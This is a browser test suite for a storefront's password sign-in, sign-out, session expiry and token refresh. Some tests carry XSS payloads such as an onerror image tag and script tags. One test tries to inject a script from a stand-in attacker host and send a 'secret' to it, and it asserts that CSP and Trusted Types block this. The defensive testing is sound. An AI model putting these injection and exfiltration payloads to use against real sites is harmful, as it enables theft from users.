// The storefront's page in a real browser: a customer signs in by password and out again, and what may go wrong between.

import assert from 'node:assert/strict';
import { after, afterEach, before, describe, test } from 'node:test';
import {
  NOTHING, alert, backOffice, email, everythingIsShown, focused, kept, launch, open, password, signInAs, status, submit,
  title,
} from './browser.mjs';
import { LESLIE, RON, claimsFor, mint, startStorefront } from './support.mjs';

const TOKENS = '**/v2/customers/tokens';
const WRONG = 'This e-mail address and this password don’t belong together. Look them over, and try again.';
const OVER = 'Your time here is over, so you have been signed out. Sign in to go on.';
const DAY = 24 * 60 * 60;

describe('signing in on the page', { timeout: 240_000 }, () => {
  let storefront, office, register, browser, opened;
  before(async () => {
    storefront = await startStorefront();
    ({ office, register } = backOffice(storefront.origin));
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    await storefront?.stop();
  });
  afterEach(async () => {
    await opened?.close();
    opened = undefined;
  });

  const visit = async (options) => {
    opened = await open(browser, storefront.origin, options);
    return opened.page;
  };
  // ---------------------------------------------------------------------------------------- in and out

  test('signs in by password, shows what is the customer\'s, and signs out', async () => {
    const page = await visit();
    assert.equal(await page.title(), 'Sign in · Storefront');
    await signInAs(page, RON);
    assert.equal(await page.title(), 'Your account · Storefront');
    assert.equal(await title(page).textContent(), `Hello, ${RON.name}`);
    assert.deepEqual(await page.locator('#details dd').allTextContents(), [RON.name, RON.email, 'with a password']);
    assert.deepEqual(await page.locator('#addresses h3').allTextContents(), ['Home', 'Office']);
    assert.equal(await page.locator('.order').count(), 10);
    assert.match(await page.locator('#session-end').textContent(), /^You are signed in until .+: (24 hours|23 hours and 59 minutes) left\.$/);
    assert.equal(await focused(page), 'greeting');

    await page.getByRole('button', { name: 'Sign out' }).click();
    assert.equal(await status(page).textContent(), 'You are signed out.');
    assert.equal(await focused(page), 'sign-in-title');
    assert.equal(await page.title(), 'Sign in · Storefront');
    // Neither hidden nor typed: nothing of the customer is left.
    const left = await page.evaluate(() => document.body.textContent + [...document.querySelectorAll('input')].map((one) => one.value));
    for (const text of [RON.name, RON.email, RON.password, 'Larch Road', 'Waffle iron']) assert.ok(!left.includes(text), text);
    opened.quiet();
  });

  test('says that a password is wrong, and lets it be tried again', async () => {
    const page = await visit();
    await email(page).fill(RON.email);
    await password(page).fill('saxophone');
    await submit(page).click();
    await alert(page).getByText(WRONG).waitFor();
    assert.equal(await focused(page), 'password');
    assert.equal(await password(page).getAttribute('aria-invalid'), 'true');
    await password(page).fill(RON.password);
    await password(page).press('Enter');
    await everythingIsShown(page);
    opened.quiet();
  });

  test('says the same of an e-mail address that nobody has', async () => {
    const page = await visit();
    await email(page).fill('nobody@pawnee.example');
    await password(page).fill('saxophone');
    await submit(page).click();
    await alert(page).getByText(WRONG).waitFor();
    opened.quiet();
  });

  test('asks for what was left empty, and sends nothing', async () => {
    const page = await visit();
    const sent = [];
    page.on('request', (one) => { if (one.url().endsWith('/tokens')) sent.push(one); });
    await submit(page).click();
    assert.equal(await page.locator('#email-error').textContent(), 'Enter your e-mail address.');
    assert.equal(await page.locator('#password-error').textContent(), 'Enter your password.');
    assert.equal(await focused(page), 'email');
    await email(page).fill(RON.email);
    await submit(page).click();
    assert.equal(await page.locator('#email-error').textContent(), '');
    assert.equal(await focused(page), 'password');
    assert.deepEqual(sent, []);
    opened.quiet();
  });

  test('shows the password to whoever wants to see it', async () => {
    const page = await visit();
    await password(page).fill('saxophone');
    const button = page.getByRole('button', { name: 'Show the password' });
    await button.click();
    assert.equal(await password(page).getAttribute('type'), 'text');
    assert.equal(await button.getAttribute('aria-pressed'), 'true');
    await button.click();
    assert.equal(await password(page).getAttribute('type'), 'password');
    opened.quiet();
  });

  // ---------------------------------------------------------------------------------------- what is kept

  test('keeps the token in memory alone: a reload signs out', async () => {
    const page = await visit();
    await signInAs(page, RON);
    assert.deepEqual(await kept(opened), NOTHING);
    assert.equal(page.url(), `${storefront.origin}/`);
    await page.reload();
    await submit(page).waitFor();
    assert.equal(await page.getByRole('button', { name: 'Sign out' }).count(), 0);
    opened.quiet();
  });

  test('shows nobody what was there to whoever comes back by the browser\'s button', async () => {
    const page = await visit();
    await signInAs(page, RON);
    await page.goto('about:blank');
    await page.goBack();
    await submit(page).waitFor();
    assert.ok(!(await page.evaluate(() => document.body.textContent)).includes(RON.name));
    opened.quiet();
  });

  test('shows what somebody wrote into their name and address as text', async () => {
    const attack = '<img src=x onerror="document.title=1">';
    const person = await register(attack, { name: attack, line_1: '<script>document.title=1</script>' });
    const page = await visit();
    await signInAs(page, person);
    assert.equal(await title(page).textContent(), `Hello, ${attack}`);
    assert.equal(await page.locator('#details dd').first().textContent(), attack);
    assert.equal(await page.locator('#addresses h3').textContent(), attack);
    await page.getByRole('button', { name: /^Change/ }).click();
    assert.equal(await page.getByLabel('What you call this address').inputValue(), attack);
    assert.equal(await page.locator('main img, main script').count(), 0);
    assert.equal(await page.title(), 'Your account · Storefront');
    opened.quiet();
  });

  test('could not run what somebody wrote into it, even if it tried', async () => {
    const page = await visit();
    const thrown = await page.evaluate(() => {
      const tried = [];
      for (const attempt of [
        () => { document.body.innerHTML = '<b>bold</b>'; },
        () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = 1' })); },
        () => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/' })); },
      ]) {
        try {
          attempt();
          tried.push('nothing');
        } catch (error) {
          tried.push(error.name);
        }
      }
      return tried;
    });
    assert.deepEqual(thrown, ['TypeError', 'TypeError', 'TypeError']);
    await page.evaluate(async () => {
      document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }));
      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/?secret' }));
      await fetch('https://evil.example/').catch(() => {});
    });
    assert.equal(await page.title(), 'Sign in · Storefront');
    const directives = new Set(opened.violations.map((violation) => violation.split(' ')[0]));
    // So that the listener, which sees none everywhere else, is known to see them.
    assert.deepEqual([...directives].sort(), ['connect-src', 'img-src', 'require-trusted-types-for', 'style-src-elem']);
  });

  // ---------------------------------------------------------------------------------------- the end of a session

  test('tells the time left, warns, and signs out politely at the end', async () => {
    const page = await visit({ clock: true });
    await signInAs(page, LESLIE);
    // No refresh succeeds.
    await page.route(TOKENS, (route) => route.fulfill({ status: 503, json: { errors: [] } }));
    await page.clock.fastForward((DAY - 2 * 60 * 60) * 1000);
    await page.locator('#session-end').getByText(/: (2 hours|1 hour and 59 minutes) left\.$/).waitFor();
    assert.equal(await status(page).textContent(), '');
    await page.clock.fastForward((2 * 60 * 60 - 280) * 1000);
    await status(page).getByText(/^You will be signed out in 5 minutes\./).waitFor();
    await page.clock.fastForward(280 * 1000);
    await status(page).getByText(OVER).waitFor();
    assert.equal(await focused(page), 'sign-in-title');
    await submit(page).waitFor();
    assert.ok(!(await page.evaluate(() => document.body.textContent)).includes(LESLIE.name));
    opened.quiet();
  });

  test('signs out politely when the store has revoked the token', async () => {
    const person = await register();
    const page = await visit();
    await signInAs(page, person);
    // Whoever else knows the password is out, and so is this page.
    await office('PUT', `/v2/customers/${person.id}`, { type: 'customer', password: 'another long one' });
    await page.getByRole('button', { name: 'Change the address Home' }).click();
    await page.getByLabel('City').fill('Eagleton');
    await page.getByRole('button', { name: 'Save' }).click();
    await status(page).getByText(OVER).waitFor();
    assert.equal(await focused(page), 'sign-in-title');
    await signInAs(page, { ...person, password: 'another long one' });
    opened.quiet();
  });

  test('signs out politely when the store calls the token expired', async () => {
    const page = await visit();
    await page.route(TOKENS, async (route) => {
      const answer = await route.fetch();
      const body = await answer.json();
      body.data.token = mint('compact', claimsFor(RON, { age: DAY + 1 }));
      await route.fulfill({ response: answer, json: body });
    });
    await email(page).fill(RON.email);
    await password(page).fill(RON.password);
    await submit(page).click();
    await status(page).getByText(OVER).waitFor();
    await submit(page).waitFor();
    opened.quiet();
  });

  // ---------------------------------------------------------------------------------------- when it goes wrong

  test('looks for other ways to sign in again when they could not be had', async () => {
    const page = await visit({ before: (page) => page.route('**/oidc-profiles', (route) => route.abort('connectionrefused'), { times: 1 }) });
    await page.getByRole('button', { name: 'Look for other ways to sign in' }).click();
    await page.locator('#providers').waitFor({ state: 'hidden' });
    assert.equal(await focused(page), 'email');
    opened.quiet();
  });

  for (const [code, text] of [[429, 'That was a bit too often.'], [503, 'The store is very busy at the moment.']]) {
    test(`holds attempts back for as long as a ${code} says`, async () => {
      const page = await visit({ clock: true });
      let asked = 0;
      await page.route(TOKENS, async (route) => {
        asked += 1;
        if (asked > 1) return route.continue();
        const errors = [{ status: code, title: 'No', detail: 'not now' }];
        return route.fulfill({ status: code, headers: { 'retry-after': '90' }, json: { errors } });
      });
      await email(page).fill(RON.email);
      await password(page).fill(RON.password);
      await submit(page).click();
      await alert(page).getByText(text).waitFor();
      // Seen, and heard once.
      await alert(page).locator('[aria-hidden]').getByText('You can try again in 2 minutes.').waitFor();
      assert.equal(await alert(page).locator('.heard').textContent(), 'You can try again in 2 minutes.');
      assert.equal(await submit(page).getAttribute('aria-disabled'), 'true');
      await submit(page).click({ force: true });
      await password(page).press('Enter');
      await page.clock.fastForward(80_000);
      await alert(page).locator('[aria-hidden]').getByText(/^You can try again in \d seconds?\.$|^You can try again in 10 seconds\.$/).waitFor();
      assert.equal(asked, 1);
      await page.clock.fastForward(11_000);
      await status(page).getByText('You can try again now.').waitFor();
      assert.equal(await alert(page).textContent(), '');
      await submit(page).click();
      await everythingIsShown(page);
      assert.equal(asked, 2);
      opened.quiet();
    });
  }

  test('says that one is offline, and that the store can\'t be reached', async () => {
    const page = await visit();
    await signInAs(page, RON);
    await opened.context.setOffline(true);
    await page.getByRole('button', { name: 'Show more orders' }).click();
    await page.locator('#orders [role=alert]').getByText(/You are offline\./).waitFor();
    assert.equal(await page.locator('.order').count(), 10);
    await opened.context.setOffline(false);
    await page.route('**/v2/orders?*', (route) => route.abort('connectionrefused'));
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.locator('#orders [role=alert]').getByText(/The store can’t be reached at the moment\./).waitFor();
    await page.unroute('**/v2/orders?*');
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByText('Showing 20 of 45 orders.').first().waitFor();
    opened.quiet();
  });

  test('gets another access token when the store no longer takes the one it has, once', async () => {
    const page = await visit();
    const got = [];
    page.on('response', (answer) => got.push(`${answer.request().method()} ${new URL(answer.url()).pathname} ${answer.status()}`));
    await signInAs(page, RON);
    let dead = 1;
    await page.route('**/v2/orders?*', (route) => {
      const headers = route.request().headers();
      if (dead > 0) headers.authorization = 'Bearer of-yesterday';
      dead -= 1;
      return route.continue({ headers });
    });
    got.length = 0;
    await page.getByRole('button', { name: 'Show more orders' }).click();
    await page.getByText('Showing 20 of 45 orders.').first().waitFor();
    assert.deepEqual(got, ['GET /v2/orders 401', 'POST /oauth/access_token 200', 'GET /v2/orders 200']);

    dead = Infinity;
    got.length = 0;
    await page.getByRole('button', { name: 'Show more orders' }).click();
    await page.locator('#orders [role=alert]').waitFor();
    assert.deepEqual(got, ['GET /v2/orders 401', 'POST /oauth/access_token 200', 'GET /v2/orders 401']);
    opened.quiet();
  });
});
